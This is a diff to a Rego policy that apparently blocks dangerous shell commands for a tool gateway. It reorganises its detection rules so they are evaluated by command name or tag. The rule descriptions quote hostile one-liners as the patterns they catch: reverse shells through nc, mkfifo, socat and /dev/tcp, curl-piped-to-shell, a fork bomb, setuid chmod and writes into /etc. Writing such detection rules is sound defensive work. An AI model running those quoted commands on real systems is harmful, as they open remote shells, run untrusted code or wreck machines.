@@ -4,13 +4,37 @@
 #   Dangerous shell commands, matched on the parsed shell facts (toolgate.shell), never
 #   on the raw text: quoting, absolute binary paths, chaining, pipes, substitutions and
 #   wrappers (sudo, env, xargs, timeout, find -exec ...) are already resolved. Rules
-#   about a command start with a lookup of its name in shell.by_name (or a set
-#   intersection with shell.names), so a rule costs next to nothing when its command
-#   does not run.
+#   about a command are keyed by its name (found_command) or its tag (found_tag) and
+#   only evaluated when such a command runs (see violations).
 package toolgate.exec
 
 import data.toolgate.lib
 import data.toolgate.shell
+
+# violations evaluates only the rules that can match the call: each rule evaluated
+# costs, even one that fails at its first expression, and most commands (go test,
+# git status) match none. The rules about one command are keyed by its name
+# (found_command.rm) and those about a kind of command by its tag (found_tag.power),
+# and only the names and tags that run are looked up; the rules about pipelines,
+# parser features or written files are evaluated only when the call has some. The
+# other rules (found) always run.
+violations := (((found | {v |
+	some name in shell.names
+	some v in found_command[name]
+}) | {v |
+	some tag, _ in shell.named
+	some v in found_tag[tag]
+}) | ({v |
+	count(shell.pipelines) > 0
+	some v in found_in_pipeline
+} | {v |
+	count(shell.write_targets) > 0
+	some v in found_in_write
+})) | {v |
+	some feats in shell.features
+	count(feats) > 0
+	some v in found_with_feature
+}
 
 # METADATA
 # title: Shell command not parsed
@@ -18,10 +42,58 @@ import data.toolgate.shell
 # custom:
 #   code: shell_unparsed
 #   severity: high
-violations contains v if {
+found contains v if {
 	some field in shell.fields
 	not shell.facts[field]
 	v := {"code": "shell_unparsed", "severity": "high", "field": field, "message": "the shell command could not be parsed"}
+}
+
+# METADATA
+# title: Command name that is not a literal
+# description: $cmd args, $(echo rm) -rf /, `printf rm` ...
+# custom:
+#   code: obfuscated_command
+#   severity: high
+found contains v if {
+	some field, f in shell.facts
+	some c in f.commands
+	c.dynamic == true
+	v := {"code": "obfuscated_command", "severity": "high", "field": field, "message": sprintf("the command name %s is not a literal", [c.name])}
+}
+
+# METADATA
+# title: awk network special files
+# description: gawk '... "/inet/tcp/0/host/port" ...'
+# custom:
+#   code: reverse_shell
+#   severity: critical
+found contains v if {
+	some field, words in shell.words
+	some w in words
+	contains(w, "/inet/")
+	some m in ["/inet/tcp/", "/inet/udp/"]
+	contains(w, m)
+	v := {"code": "reverse_shell", "severity": "critical", "field": field, "message": "the command opens a network connection through /inet/"}
+}
+
+# METADATA
+# title: Here-string or here-document fed to an interpreter
+# description: |
+#   python <<EOF ... EOF, node <<< '...', bash <<< "$x": text the engine does not
+#   parse. (A here-document or literal here-string given to a shell is parsed and
+#   merged in, and passes.)
+# custom:
+#   code: obfuscated_command
+#   severity: high
+found contains v if {
+	some r in shell.redirects
+	r.op in {"<<", "<<-", "<<<"}
+	some name in interpreters
+	some inv in shell.by_name[name]
+	inv.field == r.field
+	reads_stdin(inv.args)
+	not parsed_stdin(name, r)
+	v := {"code": "obfuscated_command", "severity": "high", "field": r.field, "message": sprintf("commands fed to %s through %s cannot be inspected", [name, r.op])}
 }
 
 # METADATA
@@ -33,7 +105,7 @@ violations contains v if {
 # custom:
 #   code: destructive_command
 #   severity: critical
-violations contains v if {
+found_command.rm contains v if {
 	some inv in shell.by_name.rm
 	message := rm_message(inv.args)
 	v := {"code": "destructive_command", "severity": "critical", "field": inv.field, "message": message}
@@ -45,7 +117,7 @@ violations contains v if {
 # custom:
 #   code: destructive_command
 #   severity: critical
-violations contains v if {
+found_command.find contains v if {
 	some inv in shell.by_name.find
 	find_deletes(inv.args)
 	roots := [t | some t in find_roots(inv.args); root_like(t)]
@@ -61,11 +133,136 @@ violations contains v if {
 # custom:
 #   code: destructive_command
 #   severity: critical
-violations contains v if {
-	some name in ["chmod", "chown", "chgrp"]
-	some inv in shell.by_name[name]
-	message := mode_message(name, inv.args)
+found_command.chmod contains v if {
+	some inv in shell.by_name.chmod
+	message := mode_message("chmod", inv.args)
 	v := {"code": "destructive_command", "severity": "critical", "field": inv.field, "message": message}
+}
+
+# METADATA
+# title: Dangerous recursive mode or ownership change
+# description: |
+#   chmod -R 777 (0777, a+rwx, o+w ...); chmod, chown or chgrp -R on /, ~, $HOME or
+#   a top-level system directory; --no-preserve-root.
+# custom:
+#   code: destructive_command
+#   severity: critical
+found_command.chown contains v if {
+	some inv in shell.by_name.chown
+	message := mode_message("chown", inv.args)
+	v := {"code": "destructive_command", "severity": "critical", "field": inv.field, "message": message}
+}
+
+# METADATA
+# title: Dangerous recursive mode or ownership change
+# description: |
+#   chmod -R 777 (0777, a+rwx, o+w ...); chmod, chown or chgrp -R on /, ~, $HOME or
+#   a top-level system directory; --no-preserve-root.
+# custom:
+#   code: destructive_command
+#   severity: critical
+found_command.chgrp contains v if {
+	some inv in shell.by_name.chgrp
+	message := mode_message("chgrp", inv.args)
+	v := {"code": "destructive_command", "severity": "critical", "field": inv.field, "message": message}
+}
+
+# METADATA
+# title: setuid or setgid chmod
+# description: chmod u+s, g+s, +s, 4755, 2755 ...
+# custom:
+#   code: privilege_escalation
+#   severity: critical
+found_command.chmod contains v if {
+	some inv in shell.by_name.chmod
+	modes := [m | some m in inv.args; setuid_mode(m)]
+	count(modes) > 0
+	v := {"code": "privilege_escalation", "severity": "critical", "field": inv.field, "message": sprintf("chmod %s sets the setuid or setgid bit", [concat(" ", modes)])}
+}
+
+# METADATA
+# title: Write after changing into a system directory
+# description: cd /etc && echo x > passwd
+# custom:
+#   code: system_file_write
+#   severity: critical
+found_command.cd contains v if {
+	some inv in shell.by_name.cd
+	some dir in shell.operands(inv.args)
+	system_target(dir)
+	some wt in shell.write_targets
+	wt.field == inv.field
+	not startswith(wt.target, "/")
+	v := {"code": "system_file_write", "severity": "critical", "field": inv.field, "message": sprintf("writes %s after changing into %s", [wt.target, dir])}
+}
+
+# METADATA
+# title: Write after changing into a system directory
+# description: cd /etc && echo x > passwd
+# custom:
+#   code: system_file_write
+#   severity: critical
+found_command.pushd contains v if {
+	some inv in shell.by_name.pushd
+	some dir in shell.operands(inv.args)
+	system_target(dir)
+	some wt in shell.write_targets
+	wt.field == inv.field
+	not startswith(wt.target, "/")
+	v := {"code": "system_file_write", "severity": "critical", "field": inv.field, "message": sprintf("writes %s after changing into %s", [wt.target, dir])}
+}
+
+# METADATA
+# title: socat running a program
+# description: socat tcp:host:port exec:/bin/sh
+# custom:
+#   code: reverse_shell
+#   severity: critical
+found_command.socat contains v if {
+	some inv in shell.by_name.socat
+	some a in inv.args
+	some m in ["exec:", "system:"]
+	contains(lower(a), m)
+	v := {"code": "reverse_shell", "severity": "critical", "field": inv.field, "message": "socat connects a program to the network"}
+}
+
+# METADATA
+# title: Named pipe with a network tool
+# description: mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f
+# custom:
+#   code: reverse_shell
+#   severity: critical
+found_command.mkfifo contains v if {
+	some fifo in shell.by_name.mkfifo
+	some net_name in shell.named.relay
+	some net in shell.by_name[net_name]
+	net.field == fifo.field
+	v := {"code": "reverse_shell", "severity": "critical", "field": fifo.field, "message": sprintf("%s with %s relays a shell over the network", ["mkfifo", net_name])}
+}
+
+# METADATA
+# title: Named pipe with a network tool
+# description: mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f
+# custom:
+#   code: reverse_shell
+#   severity: critical
+found_command.mknod contains v if {
+	some fifo in shell.by_name.mknod
+	some net_name in shell.named.relay
+	some net in shell.by_name[net_name]
+	net.field == fifo.field
+	v := {"code": "reverse_shell", "severity": "critical", "field": fifo.field, "message": sprintf("%s with %s relays a shell over the network", ["mknod", net_name])}
+}
+
+# METADATA
+# title: eval behind a wrapper
+# description: command eval ..., builtin eval ..., env eval ...
+# custom:
+#   code: obfuscated_command
+#   severity: high
+found_command.eval contains v if {
+	some inv in shell.by_name.eval
+	v := {"code": "obfuscated_command", "severity": "high", "field": inv.field, "message": obfuscation("eval")}
 }
 
 # METADATA
@@ -74,7 +271,7 @@ violations contains v if {
 # custom:
 #   code: destructive_command
 #   severity: critical
-violations contains v if {
+found_tag.power contains v if {
 	some name in shell.named.power
 	some inv in shell.by_name[name]
 	power(name, inv.args)
@@ -87,22 +284,10 @@ violations contains v if {
 # custom:
 #   code: destructive_command
 #   severity: critical
-violations contains v if {
+found_tag.disk contains v if {
 	some name in shell.named.disk
 	some inv in shell.by_name[name]
 	v := {"code": "destructive_command", "severity": "critical", "field": inv.field, "message": sprintf("%s formats or wipes a disk", [name])}
-}
-
-# METADATA
-# title: Write to a device
-# description: dd of=/dev/..., a redirect, tee, cp, shred ... writing to a device file.
-# custom:
-#   code: destructive_command
-#   severity: critical
-violations contains v if {
-	some wt in shell.write_targets
-	device(wt.target)
-	v := {"code": "destructive_command", "severity": "critical", "field": wt.field, "message": sprintf("writes to the device %s", [wt.target])}
 }
 
 # METADATA
@@ -111,91 +296,10 @@ violations contains v if {
 # custom:
 #   code: privilege_escalation
 #   severity: critical
-violations contains v if {
+found_tag.escalator contains v if {
 	some name in shell.named.escalator
 	some inv in shell.by_name[name]
 	v := {"code": "privilege_escalation", "severity": "critical", "field": inv.field, "message": sprintf("%s runs commands with other privileges", [name])}
-}
-
-# METADATA
-# title: setuid or setgid chmod
-# description: chmod u+s, g+s, +s, 4755, 2755 ...
-# custom:
-#   code: privilege_escalation
-#   severity: critical
-violations contains v if {
-	some inv in shell.by_name.chmod
-	modes := [m | some m in inv.args; setuid_mode(m)]
-	count(modes) > 0
-	v := {"code": "privilege_escalation", "severity": "critical", "field": inv.field, "message": sprintf("chmod %s sets the setuid or setgid bit", [concat(" ", modes)])}
-}
-
-# METADATA
-# title: Write to a system path
-# description: |
-#   A redirect, tee, cp, mv, install, ln, dd of=, sed -i, touch, rm ... writing under
-#   /etc, /boot, /usr, /bin, /sbin, /lib*, /sys, /proc, /root, /var/spool/cron, to a
-#   device, or to an absolute path containing "..".
-# custom:
-#   code: system_file_write
-#   severity: critical
-violations contains v if {
-	some wt in shell.write_targets
-	system_target(wt.target)
-	v := {"code": "system_file_write", "severity": "critical", "field": wt.field, "message": sprintf("writes to the system path %s", [wt.target])}
-}
-
-# METADATA
-# title: Write after changing into a system directory
-# description: cd /etc && echo x > passwd
-# custom:
-#   code: system_file_write
-#   severity: critical
-violations contains v if {
-	some name in ["cd", "pushd"]
-	some inv in shell.by_name[name]
-	some dir in shell.operands(inv.args)
-	system_target(dir)
-	some wt in shell.write_targets
-	wt.field == inv.field
-	not startswith(wt.target, "/")
-	v := {"code": "system_file_write", "severity": "critical", "field": inv.field, "message": sprintf("writes %s after changing into %s", [wt.target, dir])}
-}
-
-# METADATA
-# title: Remote or decoded code piped into an interpreter
-# description: curl ... | sh, wget -O- | bash, base64 -d | sh, xxd -r | python, curl ... | sudo bash
-# custom:
-#   code: remote_code_execution
-#   severity: critical
-violations contains v if {
-	some p in shell.pipelines
-	some i, src in p.names
-	source(src)
-	some j, sink in p.names
-	j > i
-	runs_code(sink, shell.names)
-	v := {"code": "remote_code_execution", "severity": "critical", "field": p.field, "message": sprintf("output of %s is piped into %s", [src, sink])}
-}
-
-# METADATA
-# title: Remote or decoded code run through a substitution
-# description: bash <(curl ...), sh -c "$(curl ...)", eval "$(wget -O- ...)", python -c "$(curl ...)"
-# custom:
-#   code: remote_code_execution
-#   severity: critical
-violations contains v if {
-	some src_name in sources
-	some field, feats in shell.features
-	some feat in ["command_substitution", "process_substitution"]
-	feats[feat]
-	some src in shell.by_name[src_name]
-	src.field == field
-	some run_name in substitution_runners
-	some run in shell.by_name[run_name]
-	run.field == field
-	runs_substituted(run_name, run.args)
-	v := {"code": "remote_code_execution", "severity": "critical", "field": field, "message": sprintf("%s runs the output of %s", [run_name, src_name])}
 }
 
 # METADATA
@@ -204,26 +308,11 @@ violations contains v if {
 # custom:
 #   code: remote_code_execution
 #   severity: critical
-violations contains v if {
-	count(shell.download_fields) > 0
+found_tag.downloader contains v if {
 	some d in shell.downloaded
 	d.name != ""
-	some inv in shell.invocations
-	inv.field == d.field
-	executes_file(inv.name, inv.args, d.name)
+	executed[[d.field, d.name]]
 	v := {"code": "remote_code_execution", "severity": "critical", "field": d.field, "message": sprintf("runs %s after downloading it", [d.name])}
-}
-
-# METADATA
-# title: Reverse shell through /dev/tcp
-# description: bash -i >& /dev/tcp/host/port 0>&1, exec 5<>/dev/udp/...
-# custom:
-#   code: reverse_shell
-#   severity: critical
-violations contains v if {
-	some field, feats in shell.features
-	feats.dev_tcp
-	v := {"code": "reverse_shell", "severity": "critical", "field": field, "message": "the command opens a network connection through /dev/tcp or /dev/udp"}
 }
 
 # METADATA
@@ -232,7 +321,7 @@ violations contains v if {
 # custom:
 #   code: reverse_shell
 #   severity: critical
-violations contains v if {
+found_tag.netcat contains v if {
 	some name in shell.named.netcat
 	some inv in shell.by_name[name]
 	flags := [a | some a in inv.args; netcat_exec(a)]
@@ -241,26 +330,12 @@ violations contains v if {
 }
 
 # METADATA
-# title: socat running a program
-# description: socat tcp:host:port exec:/bin/sh
-# custom:
-#   code: reverse_shell
-#   severity: critical
-violations contains v if {
-	some inv in shell.by_name.socat
-	some a in inv.args
-	some m in ["exec:", "system:"]
-	contains(lower(a), m)
-	v := {"code": "reverse_shell", "severity": "critical", "field": inv.field, "message": "socat connects a program to the network"}
-}
-
-# METADATA
 # title: Interactive shell with redirected input or output
 # description: bash -i >& ..., sh -i 2>&1 | nc ...
 # custom:
 #   code: reverse_shell
 #   severity: critical
-violations contains v if {
+found_tag.shell contains v if {
 	some name in shell.named.shell
 	some inv in shell.by_name[name]
 	shell.has_short_flag(inv.args, "i")
@@ -269,42 +344,12 @@ violations contains v if {
 }
 
 # METADATA
-# title: Named pipe with a network tool
-# description: mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f
-# custom:
-#   code: reverse_shell
-#   severity: critical
-violations contains v if {
-	some fifo_name in ["mkfifo", "mknod"]
-	some fifo in shell.by_name[fifo_name]
-	some net_name in shell.named.relay
-	some net in shell.by_name[net_name]
-	net.field == fifo.field
-	v := {"code": "reverse_shell", "severity": "critical", "field": fifo.field, "message": sprintf("%s with %s relays a shell over the network", [fifo_name, net_name])}
-}
-
-# METADATA
-# title: Network tool and shell in one pipeline
-# description: nc host port | sh, telnet h 1 | /bin/sh | telnet h 2
-# custom:
-#   code: reverse_shell
-#   severity: critical
-violations contains v if {
-	some p in shell.pipelines
-	some net in p.names
-	"relay" in shell.tags(net)
-	some sh in p.names
-	"shell" in shell.tags(sh)
-	v := {"code": "reverse_shell", "severity": "critical", "field": p.field, "message": sprintf("%s and %s in one pipeline relay a shell over the network", [net, sh])}
-}
-
-# METADATA
 # title: Scripted reverse shell
 # description: python/perl/ruby/php/node one-liners that open a socket and run a program.
 # custom:
 #   code: reverse_shell
 #   severity: critical
-violations contains v if {
+found_tag.script contains v if {
 	some name in shell.named.script
 	some inv in shell.by_name[name]
 	code := lower(concat(" ", inv.args))
@@ -319,40 +364,12 @@ violations contains v if {
 }
 
 # METADATA
-# title: awk network special files
-# description: gawk '... "/inet/tcp/0/host/port" ...'
-# custom:
-#   code: reverse_shell
-#   severity: critical
-violations contains v if {
-	some field, words in shell.words
-	some w in words
-	contains(w, "/inet/")
-	some m in ["/inet/tcp/", "/inet/udp/"]
-	contains(w, m)
-	v := {"code": "reverse_shell", "severity": "critical", "field": field, "message": "the command opens a network connection through /inet/"}
-}
-
-# METADATA
-# title: Fork bomb
-# description: "A function that calls itself in the background or in a pipeline: ':(){ :|:& };:'."
-# custom:
-#   code: fork_bomb
-#   severity: critical
-violations contains v if {
-	some field, feats in shell.features
-	feats.recursive_function
-	spawns(field, feats, shell.pipelines)
-	v := {"code": "fork_bomb", "severity": "critical", "field": field, "message": "a function calls itself in the background or in a pipeline"}
-}
-
-# METADATA
 # title: Scripted fork bomb
 # description: perl -e 'fork while fork', a python loop around os.fork() and the like.
 # custom:
 #   code: fork_bomb
 #   severity: critical
-violations contains v if {
+found_tag.script contains v if {
 	some name in shell.named.script
 	some inv in shell.by_name[name]
 	code := lower(concat(" ", inv.args))
@@ -363,40 +380,34 @@ violations contains v if {
 }
 
 # METADATA
-# title: Obfuscated command
-# description: $IFS, \x or \0 escapes, $'...' quoting, eval (also behind a wrapper such as command eval).
+# title: Remote or decoded code piped into an interpreter
+# description: curl ... | sh, wget -O- | bash, base64 -d | sh, xxd -r | python, curl ... | sudo bash
 # custom:
-#   code: obfuscated_command
-#   severity: high
-violations contains v if {
-	some field, feats in shell.features
-	some feat in feats
-	message := obfuscation(feat)
-	v := {"code": "obfuscated_command", "severity": "high", "field": field, "message": message}
+#   code: remote_code_execution
+#   severity: critical
+found_in_pipeline contains v if {
+	some p in shell.pipelines
+	some i, src in p.names
+	source(src)
+	some j, sink in p.names
+	j > i
+	runs_code(sink, shell.names)
+	v := {"code": "remote_code_execution", "severity": "critical", "field": p.field, "message": sprintf("output of %s is piped into %s", [src, sink])}
 }
 
 # METADATA
-# title: eval behind a wrapper
-# description: command eval ..., builtin eval ..., env eval ...
+# title: Network tool and shell in one pipeline
+# description: nc host port | sh, telnet h 1 | /bin/sh | telnet h 2
 # custom:
-#   code: obfuscated_command
-#   severity: high
-violations contains v if {
-	some inv in shell.by_name.eval
-	v := {"code": "obfuscated_command", "severity": "high", "field": inv.field, "message": obfuscation("eval")}
-}
-
-# METADATA
-# title: Command name that is not a literal
-# description: $cmd args, $(echo rm) -rf /, `printf rm` ...
-# custom:
-#   code: obfuscated_command
-#   severity: high
-violations contains v if {
-	some field, f in shell.facts
-	some c in f.commands
-	c.dynamic == true
-	v := {"code": "obfuscated_command", "severity": "high", "field": field, "message": sprintf("the command name %s is not a literal", [c.name])}
+#   code: reverse_shell
+#   severity: critical
+found_in_pipeline contains v if {
+	some p in shell.pipelines
+	some net in p.names
+	"relay" in shell.tags(net)
+	some sh in p.names
+	"shell" in shell.tags(sh)
+	v := {"code": "reverse_shell", "severity": "critical", "field": p.field, "message": sprintf("%s and %s in one pipeline relay a shell over the network", [net, sh])}
 }
 
 # METADATA
@@ -408,7 +419,7 @@ violations contains v if {
 # custom:
 #   code: obfuscated_command
 #   severity: high
-violations contains v if {
+found_in_pipeline contains v if {
 	some p in shell.pipelines
 	some j, sink in p.names
 	j > 0
@@ -421,23 +432,88 @@ violations contains v if {
 }
 
 # METADATA
-# title: Here-string or here-document fed to an interpreter
+# title: Write to a device
+# description: dd of=/dev/..., a redirect, tee, cp, shred ... writing to a device file.
+# custom:
+#   code: destructive_command
+#   severity: critical
+found_in_write contains v if {
+	some wt in shell.write_targets
+	device(wt.target)
+	v := {"code": "destructive_command", "severity": "critical", "field": wt.field, "message": sprintf("writes to the device %s", [wt.target])}
+}
+
+# METADATA
+# title: Write to a system path
 # description: |
-#   python <<EOF ... EOF, node <<< '...', bash <<< "$x": text the engine does not
-#   parse. (A here-document or literal here-string given to a shell is parsed and
-#   merged in, and passes.)
+#   A redirect, tee, cp, mv, install, ln, dd of=, sed -i, touch, rm ... writing under
+#   /etc, /boot, /usr, /bin, /sbin, /lib*, /sys, /proc, /root, /var/spool/cron, to a
+#   device, or to an absolute path containing "..".
+# custom:
+#   code: system_file_write
+#   severity: critical
+found_in_write contains v if {
+	some wt in shell.write_targets
+	system_target(wt.target)
+	v := {"code": "system_file_write", "severity": "critical", "field": wt.field, "message": sprintf("writes to the system path %s", [wt.target])}
+}
+
+# METADATA
+# title: Remote or decoded code run through a substitution
+# description: bash <(curl ...), sh -c "$(curl ...)", eval "$(wget -O- ...)", python -c "$(curl ...)"
+# custom:
+#   code: remote_code_execution
+#   severity: critical
+found_with_feature contains v if {
+	some src_name in sources
+	some field, feats in shell.features
+	some feat in ["command_substitution", "process_substitution"]
+	feats[feat]
+	some src in shell.by_name[src_name]
+	src.field == field
+	some run_name in substitution_runners
+	some run in shell.by_name[run_name]
+	run.field == field
+	runs_substituted(run_name, run.args)
+	v := {"code": "remote_code_execution", "severity": "critical", "field": field, "message": sprintf("%s runs the output of %s", [run_name, src_name])}
+}
+
+# METADATA
+# title: Reverse shell through /dev/tcp
+# description: bash -i >& /dev/tcp/host/port 0>&1, exec 5<>/dev/udp/...
+# custom:
+#   code: reverse_shell
+#   severity: critical
+found_with_feature contains v if {
+	some field, feats in shell.features
+	feats.dev_tcp
+	v := {"code": "reverse_shell", "severity": "critical", "field": field, "message": "the command opens a network connection through /dev/tcp or /dev/udp"}
+}
+
+# METADATA
+# title: Fork bomb
+# description: "A function that calls itself in the background or in a pipeline: ':(){ :|:& };:'."
+# custom:
+#   code: fork_bomb
+#   severity: critical
+found_with_feature contains v if {
+	some field, feats in shell.features
+	feats.recursive_function
+	spawns(field, feats, shell.pipelines)
+	v := {"code": "fork_bomb", "severity": "critical", "field": field, "message": "a function calls itself in the background or in a pipeline"}
+}
+
+# METADATA
+# title: Obfuscated command
+# description: $IFS, \x or \0 escapes, $'...' quoting, eval (also behind a wrapper such as command eval).
 # custom:
 #   code: obfuscated_command
 #   severity: high
-violations contains v if {
-	some r in shell.redirects
-	r.op in {"<<", "<<-", "<<<"}
-	some name in interpreters
-	some inv in shell.by_name[name]
-	inv.field == r.field
-	reads_stdin(inv.args)
-	not parsed_stdin(name, r)
-	v := {"code": "obfuscated_command", "severity": "high", "field": r.field, "message": sprintf("commands fed to %s through %s cannot be inspected", [name, r.op])}
+found_with_feature contains v if {
+	some field, feats in shell.features
+	some feat in feats
+	message := obfuscation(feat)
+	v := {"code": "obfuscated_command", "severity": "high", "field": field, "message": message}
 }
 
 # obfuscation describes a parser feature that hides what a command does.
@@ -660,12 +736,13 @@ code_arg(a) if a in {"-c", "-e", "-E", "-r", "-"}
 
 code_arg(a) if startswith(a, "<(")
 
-executes_file(name, _, file) if name == file
-
-executes_file(name, args, file) if {
-	shell.interpreter(name)
-	ops := shell.operands(args)
-	lib.basename(ops[0]) == file
+# executed lists as [field, name] the files the commands of a field run: each
+# command by its own name (./x runs x), and the script an interpreter is given (sh
+# i.sh). One pass over the commands, instead of one per downloaded file.
+executed := {[inv.field, inv.name] | some inv in shell.invocations} | {[inv.field, lib.basename(ops[0])] |
+	some inv in shell.invocations
+	shell.interpreter(inv.name)
+	ops := shell.operands(inv.args)
 }
 
 netcat_exec(a) if a in {"--exec", "--sh-exec", "--lua-exec"}
